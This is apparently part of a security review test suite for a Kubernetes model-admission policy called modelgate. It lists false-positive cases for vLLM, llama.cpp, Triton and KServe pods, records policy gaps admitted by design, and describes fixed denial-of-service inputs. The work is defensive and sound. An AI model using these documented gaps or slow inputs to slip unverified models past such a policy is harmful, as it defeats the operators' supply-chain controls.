          signature: { configMapRef: { name: 'model-sig', key: 'model.sig' } },
        },
      ]),
    ),
    'the same signed model is admitted at the claim\'s root; one directory per model in a shared claim (the usual layout) is refused because its source becomes pvc://models-llama/llama, which "pvc://models-*" (docs: "PVCs whose name starts with models-") does not match — and the signer, not the path, is the evidence here',
    'src/workloads/extract.ts:510 (the subPath is appended to the pvc:// source) with src/policy/checks/source.ts:5 ("*" stays within one segment). Fix: match pvc:// sources on the claim (a pattern without a "/" after the claim matches any subPath of it), or document pvc://models-*/** and fix the examples',
  ),
  falsePositive(
    'FP10',
    'vLLM --api-key $(API_KEY) from a Secret',
    vllmPod('prod', {
      command: ['vllm', 'serve', '/models/m', '--api-key', '$(API_KEY)'],
      env: [{ name: 'API_KEY', valueFrom: { secretKeyRef: { name: 'vllm', key: 'api-key' } } }],
    }),
    'a credential from a Secret (issue 13 §3: not a violation) in the value of a flag the grammar knows takes a non-model value; the kubelet expands $(VAR) inside one argument, so it cannot add flags. Same class: --hf-token $(HF_TOKEN), --host $(POD_IP) (LWS/Ray multi-node), --port $(PORT) from a ConfigMap',
    'src/workloads/container.ts:167-181 (any argument holding an unknown $(VAR) is unreadable before the grammar says what the argument is). Fix: expand to an "unknown" token and let the grammar decide: unreadable only where it may name a model (the positional, a model flag, an unknown flag\'s value)',
  ),
  falsePositive(
    'FP11',
    'vLLM multi-node: --host $(POD_IP) in a Deployment template',
    deploy('prod', {
      containers: [
        {
          name: 'server',
          image: VLLM,
          command: ['vllm', 'serve', '/models/m', '--host', '$(POD_IP)'],
          env: [{ name: 'POD_IP', valueFrom: { fieldRef: { fieldPath: 'status.podIP' } } }],
          volumeMounts: ro,
        },
      ],
      volumes: [modelVol],
    }),
    'a fieldRef to the pod IP (docs: "fieldRef env used by meshes are not" violations) as the value of --host',
    'as FP10: src/workloads/container.ts:167-181',
  ),
  falsePositive(
    'FP12',
    "vLLM with Mistral's documented flags (--config-format mistral)",
    vllmPod('prod', {
      command: [
        'vllm',
        'serve',
        '/models/m',
        '--tokenizer-mode',
        'mistral',
        '--config-format',
        'mistral',
        '--load-format',
        'mistral',
      ],
    }),
    "Mistral's model cards give exactly this line; --config-format is a keyword (auto|hf|mistral), it names no file",
    'src/workloads/command-line.ts:209 (MODEL_ISH matches "config" in a flag the vLLM grammar lacks). Fix: complete the grammars from the servers\' own --help (a generated table per version), so MODEL_ISH only meets really unknown flags',
  ),
  falsePositive(
    'FP13',
    'llama.cpp server with --api-key-file and TLS files from a Secret',
    pod('prod', {
      containers: [
        {
          name: 'server',
          image: LLAMA,
          args: [
            '-m',
            '/models/m/model.gguf',
            '--api-key-file',
            '/s/keys',
            '--ssl-key-file',
            '/s/tls.key',
            '--ssl-cert-file',
            '/s/tls.crt',
          ],
          volumeMounts: [...ro, { name: 's', mountPath: '/s', readOnly: true }],
        },
      ],
      volumes: [modelVol, { name: 's', secret: { secretName: 'llama-tls' } }],
    }),
    "llama-server's documented API-key and TLS options; none of them loads a model",
    'as FP12: src/workloads/command-line.ts:209 ("file" in flags the llama.cpp grammar lacks, src/workloads/servers.ts:297)',
  ),
  falsePositive(
    'FP14',
    'hardened vLLM: readOnlyRootFilesystem, caches on an emptyDir (TRITON_CACHE_DIR=/tmp/triton)',
    vllmPod(
      'prod',
      {
        command: ['vllm', 'serve', '/models/m'],
        env: [
          { name: 'HOME', value: '/tmp' },
          { name: 'TRITON_CACHE_DIR', value: '/tmp/triton' },
        ],
        volumeMounts: [...ro, { name: 'tmp', mountPath: '/tmp' }],
        securityContext: { readOnlyRootFilesystem: true, runAsNonRoot: true, runAsUser: 1000 },
      },
      [{ name: 'tmp', emptyDir: {} }],
    ),
    "the server's own compile cache on an emptyDir only it mounts starts empty with the pod: nothing the deployer supplies is in it (unlike a ConfigMap or PVC). The same pod with HOME=/tmp and no TRITON_CACHE_DIR (Triton's default ~/.triton is then on the same emptyDir) is admitted",
    "src/workloads/code-env.ts:92-100 (any code path on any volume is refused, emptyDir included). Fix: a code-cache variable on an emptyDir that no other container (init or sidecar) mounts is the server's own",
  ),
  falsePositive(
    'FP15',
    'InferenceService with an S3 storageUri and its digest declared (the storage-initializer flow)',
    {
      apiVersion: 'serving.kserve.io/v1beta1',
      kind: 'InferenceService',
      metadata: {
        name: 'sk',
        namespace: 'prod',
        ...annotate([{ name: 'sk', volume: 'kserve-provision-location', digest: SIGNED }]),
      },
      spec: {
        predictor: { model: { modelFormat: { name: 'sklearn' }, storageUri: 's3://models-prod/sk' } },
      },
    },
    'KServe\'s most common shape: the storage initializer downloads s3://models-prod/sk into the volume kserve-provision-location, KServe copies the object\'s annotations to the pods, and the pods (storage initializer, then the injected verifier, then the server) are admitted. The object is refused: a storageUri reference has no volume, so no annotation entry can pin it ("names volume kserve-provision-location, which the pod spec does not define"), and without one it is "not pinned" — under requirePinned or authorities no InferenceService with an S3/GCS/PVC model can be created',
    "src/workloads/extract.ts:337-338 (a storageUri is added with no volume) with src/workloads/extract.ts:493 (a declared volume must exist in a pod spec of the object). Fix: bind an annotation entry to a component's storageUri (by KServe's volume name kserve-provision-location, or by name), and count the verifier its pods will get",
  ),
  // ── Round 4 ─────────────────────────────────────────────────────────────────────────────────────────
  falsePositive(
    'FP16',
    'llm-d prefill/decode: vLLM with --kv-transfer-config NixlConnector',
    pod('prod', {
      containers: [
        {
          name: 'vllm',
          image: VLLM,
          command: ['vllm', 'serve', 'example-org/llama', '--revision', C],
          args: [
            '--port=8200',
            '--kv-transfer-config={"kv_connector":"NixlConnector","kv_role":"kv_both"}',
            '--block-size=128',
            '--enforce-eager',
          ],
          env: [
            { name: 'VLLM_NIXL_SIDE_CHANNEL_HOST', valueFrom: { fieldRef: { fieldPath: 'status.podIP' } } },
            { name: 'UCX_TLS', value: 'cuda_ipc,cuda_copy,tcp' },
          ],
        },
      ],
    }),
    "llm-d's and vLLM's documented disaggregated serving: the connector is a name vLLM registers; nothing in the JSON names a file or a module",
    'src/workloads/command-line.ts:52,213 (an unknown flag whose name contains "config" is unreadable whatever its value)',
  ),
  falsePositive(
    'FP17',
    'vLLM --compilation-config with CUDA graph sizes',
    vllmPod('prod', {
      command: ['vllm', 'serve', '/models/m'],
      args: [
        '--compilation-config',
        '{"cudagraph_mode":"FULL_DECODE_ONLY","cudagraph_capture_sizes":[1,2,4,8]}',
      ],
    }),
    "vLLM's documented tuning of torch.compile and CUDA graphs: numbers and keywords",
    'as FP16 (src/workloads/command-line.ts:52,213)',
  ),
  falsePositive(
    'FP18',
    'vLLM --speculative-config with the draft pinned by its own "revision"',
    pod('prod', {
      containers: [
        {
          name: 'vllm',
          image: VLLM,
          command: ['vllm', 'serve', 'example-org/llama', '--revision', C],
          args: [
            '--speculative-config',
            `{"method":"eagle3","model":"example-org/llama-eagle3","num_speculative_tokens":3,"revision":"${C}"}`,
          ],
        },
      ],
    }),
    "vLLM's SpeculativeConfig takes the draft model's revision in the same JSON; a pinned draft of an allowed org is exactly what requirePinned asks for",
    'src/workloads/command-line.ts:320-348 (jsonModels reads the model key and ignores "revision", so the draft is "not pinned")',
  ),
  falsePositive(
    'FP19',
    'llama.cpp --chat-template-file from a ConfigMap',
    pod('prod', {
      containers: [
        {
          name: 'llama',
          image: LLAMA,
          args: ['-m', '/models/m/model.gguf', '--jinja', '--chat-template-file', '/cfg/template.jinja'],
          volumeMounts: [...ro, cfgMount],
        },
      ],
      volumes: [modelVol, cfgVol],
    }),
    "llama.cpp's documented way to give a model a chat template: a Jinja text it renders prompts with, not weights or code it loads",
    'src/workloads/servers.ts:325-400 (--chat-template-file is not in the llama.cpp grammar, and its name contains "file")',
  ),
  falsePositive(
    'FP20',
    "Triton with --disable-auto-complete-config and --model-load-thread-count (Triton's documented flags)",
    pod('prod', {
      containers: [
        {
          name: 'triton',
          image: TRITON,
          command: [
            'tritonserver',
            '--model-repository=/models/m',
            '--disable-auto-complete-config',
            '--model-load-thread-count=4',
            '--metrics-config=summary_latencies=true',
          ],
          volumeMounts: ro,
        },
      ],
      volumes: [modelVol],
    }),
    'a model repository on a pinned image volume, served with settings that name no file or model',
    'src/workloads/command-line.ts:52,213 (the unknown flags contain "config" and "load", so they are unreadable whatever their value); src/workloads/servers.ts:486-515 (the Triton grammar lists a dozen of its flags)',
  ),
  falsePositive(
    'FP21',
    "llama.cpp speculative decoding with its draft's tuning (--draft-p-min, --ctx-size-draft)",
    pod('prod', {
      containers: [
        {
          name: 'llama',
          image: LLAMA,
          args: [
            '-m',
            '/models/m/model.gguf',
            '-md',
            '/models/m/draft.gguf',
            '--draft-p-min',
            '0.8',
            '--ctx-size-draft',
            '4096',
          ],
          volumeMounts: ro,
        },
      ],
      volumes: [modelVol],
    }),
    'both models on the pinned image volume; the other flags are numbers',
    'src/workloads/command-line.ts:52,213 ("draft" in an unknown flag\'s name makes it unreadable)',
  ),
  falsePositive(
    'FP22',
    "LLMInferenceService pinning vLLM's image in its main container (no command)",
    {
      apiVersion: 'serving.kserve.io/v1alpha1',
      kind: 'LLMInferenceService',
      metadata: { name: 'l', namespace: 'prod' },
      spec: {
        model: { uri: `hf://example-org/llama:${C}`, name: 'llama' },
        template: {
          containers: [
            {
              name: 'main',
              image: VLLM,
              env: [{ name: 'VLLM_ADDITIONAL_ARGS', value: '--max-model-len 16384' }],
            },
          ],
        },
      },
    },
    "KServe merges the container by name into its template: the template's command (vllm serve /mnt/models ... ${VLLM_ADDITIONAL_ARGS}) runs in the image the object pins, serving spec.model.uri. modelgate read the container as the image's own entrypoint with no model named, so vLLM's built-in default (facebook/opt-125m) was checked and refused",
    'src/workloads/container.ts:275 (only a container with neither image nor command is read as the template KServe completes)',
  ),
  falsePositive(
    'FP23',
    'vLLM serving "." from a working directory inside the signed model, with ordinary flags and LANG',
    signedReadPod({
      command: [
        'vllm',
        'serve',
        '.',
        '--host',
        '0.0.0.0',
        '--port',
        '8000',
        '--served-model-name',
        'llama-3.1-8b',
      ],
      workingDir: '/models/m',
      env: [{ name: 'LANG', value: 'en_US.UTF-8' }],
    }),
    'relative paths are read in the working directory (H105); flag values that name no file (an address, a port, a served name) and environment values are not read as paths',
    'src/workloads/container.ts:132 (RELATIVE_FILE: only ./x, dir/file and file.ext tokens in command and args)',
  ),
  falsePositive(
    'FP24',
    "llama.cpp's server tag with llama.cpp's own docs' arguments (-c first)",
    pod('team', {
      containers: [
        {
          name: 'server',
          image: 'ghcr.io/ggml-org/llama.cpp:server',
          args: ['-c', '4096', '-m', '/models/m/model.gguf', '--host', '0.0.0.0'],
          volumeMounts: ro,
        },
      ],
      volumes: [modelVol],
    }),
    'the "server" tag (no digest) is resolved by the runtime to the image whose entrypoint is llama-server itself, where -c is the context size; only a digest (which may be a "full" image) leaves the entrypoint open',
    'src/workloads/container.ts:693 (H109: a first argument tools.sh reads as a tool was refused whatever the tag)',
  ),
];

/**
 * Holes the fix does not close at admission, by design, and documents instead (docs/policy.md): they are
 * admitted, and the docs tell the platform team what to use (signatures) for what these cannot prove.
 */
export const LIMITATIONS: Record<string, string> = {
  H57: "an InferenceService names its ServingRuntime (or KServe picks one by modelFormat); the runtime's container is not in the object, so the object is judged by what it says, and the runtime's container where it runs: in the Pods, which every policy selects unless match.kinds leaves them out (the policy webhook warns then; docs/policy.md, KServe)",
  H97: "an LLMInferenceService's baseRefs name LLMInferenceServiceConfig objects whose templates KServe merges into its pods; like H57's ServingRuntime, they are not in the object, so the object is judged by what it says and the merged containers where they run: in the Pods (docs/policy.md, KServe)",
  H25: 'a commit pins content, not authorship: anyone can push a commit to a public hub repository (a pull request), so hub sources with requirePinned prove which bytes, not whose; authorities prove whose (docs/policy.md, requirePinned)',
};
for (const h of HOLES) if (h.id in LIMITATIONS) h.want = h.now = 'admitted';

/** Every case, holes first. */
export const REVIEW_CASES: ReviewCase[] = [...HOLES, ...FALSE_POSITIVES];

// Denial of service found by the review, fixed in 3773f10 (not in the suite: no timing thresholds in tests):
//  - "$(" x 500,000 in one argument took 9.7 s per expansion (quadratic indexOf from every "$("): expansion is
//    now the kubelet's reading with one forward scan for ")" (src/workloads/argv.ts; argv.test.ts checks a
//    megabyte of "$(" makes no lookups), one finding per argument, and candidates are matched against unknown
//    names in linear time;
//  - 8,000 hostPath volumes beside one declared model took 7.8 s (quadratic pairwise loop): the overlap check
//    now runs only from verified host-path volumes, with sets (src/policy/checks/integrity.ts).
